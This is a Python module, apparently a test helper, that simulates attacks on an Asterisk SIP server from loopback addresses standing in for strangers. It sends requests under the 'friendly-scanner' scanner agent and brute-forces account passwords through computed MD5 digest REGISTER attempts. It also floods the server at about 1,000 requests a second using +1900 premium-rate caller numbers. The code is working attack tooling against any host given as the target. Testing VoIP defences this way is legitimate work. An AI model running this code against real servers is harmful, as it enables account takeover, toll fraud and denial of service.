"""Attacks by SIP from an address of the attacker's own: 127.0.0.2 and the like stand for strangers."""

import asyncio
import hashlib
import re
import socket
import uuid
from dataclasses import dataclass

AGENT = "friendly-scanner"


def packet(target: str, source: str, method: str, user: str, sender: str, call: str, more: str = "", number: int = 1) -> bytes:  # fmt: skip  # noqa: E501
    """A request without a body. more: header lines."""
    lines = [
        f"{method} sip:{user}@{target} SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{uuid.uuid4().hex};rport",
        f"From: <sip:{sender}@{target}>;tag={call[:8]}",
        f"To: <sip:{user}@{target}>",
        f"Call-ID: {call}",
        f"CSeq: {number} {method}",
        f"Contact: <sip:{sender}@{source}>",
        f"User-Agent: {AGENT}",
        "Max-Forwards: 70",
        *more.splitlines(),
        "Content-Length: 0",
    ]
    return "\r\n".join([*lines, "", ""]).encode()


@dataclass(frozen=True, slots=True)
class Attacker:
    """source: whose address; target: host:port of Asterisk."""

    source: str
    target: str

    async def asks(self, method: str, user: str, sender: str = "100") -> int:
        """One request; the final status, 0 for no answer within two seconds."""
        with self._socket() as phone:
            call = uuid.uuid4().hex
            return (await self._sent(phone, packet(self.target, self.source, method, user, sender, call), method))[0]

    async def guesses(self, account: str, password: str) -> int:
        """Registers with this password. 401: it was wrong; 200: it was right."""
        with self._socket() as phone:
            call, uri = uuid.uuid4().hex, f"sip:{account}@{self.target}"
            first = packet(self.target, self.source, "REGISTER", account, account, call)
            status, answer = await self._sent(phone, first, "REGISTER")
            if status != 401:
                return status
            told = dict(re.findall(r'(\w+)="([^"]*)"', answer))
            proof = _digest(account, password, told, uri)
            more = f"Authorization: Digest {proof}"
            second = packet(self.target, self.source, "REGISTER", account, account, call, more, 2)
            return (await self._sent(phone, second, "REGISTER"))[0]

    async def floods(self, method: str, user: str, until: asyncio.Event, burst: int = 20) -> int:
        """About 1,000 requests a second, without a look at the answers; how many were sent."""
        sent = 0
        with self._socket() as phone:
            while not until.is_set():
                for _ in range(burst):
                    call = uuid.uuid4().hex
                    phone.send(packet(self.target, self.source, method, user, f"+1900{sent:07d}", call))
                sent += burst
                await asyncio.sleep(0.02)
        return sent

    def _socket(self) -> socket.socket:
        host, port = self.target.rsplit(":", 1)
        phone = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        phone.bind((self.source, 0))
        phone.connect((host, int(port)))
        phone.setblocking(False)
        return phone

    async def _sent(self, phone: socket.socket, request: bytes, method: str) -> tuple[int, str]:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(phone, request)
        try:
            async with asyncio.timeout(2.0):
                while True:
                    answer = (await loop.sock_recv(phone, 65535)).decode(errors="replace")
                    found = re.match(r"SIP/2\.0 (\d{3})", answer)
                    if found and int(found[1]) >= 200 and _number(request.decode()) == _number(answer):
                        return int(found[1]), answer
        except TimeoutError:
            return 0, ""


def _number(message: str) -> str:
    found = re.search(r"CSeq: (\d+)", message)
    return found[1] if found else ""


def _digest(account: str, password: str, told: dict[str, str], uri: str) -> str:
    """RFC 2617, MD5 with qop=auth."""
    realm, nonce = told.get("realm", ""), told.get("nonce", "")
    mine = hashlib.md5(f"{account}:{realm}:{password}".encode()).hexdigest()
    asked = hashlib.md5(f"REGISTER:{uri}".encode()).hexdigest()
    proof = hashlib.md5(f"{mine}:{nonce}:00000001:c0ffee:auth:{asked}".encode()).hexdigest()
    known = f'username="{account}", realm="{realm}", nonce="{nonce}", uri="{uri}", response="{proof}"'
    opaque = f', opaque="{told["opaque"]}"' if "opaque" in told else ""
    return f'{known}, algorithm=MD5, qop=auth, nc=00000001, cnonce="c0ffee"{opaque}'
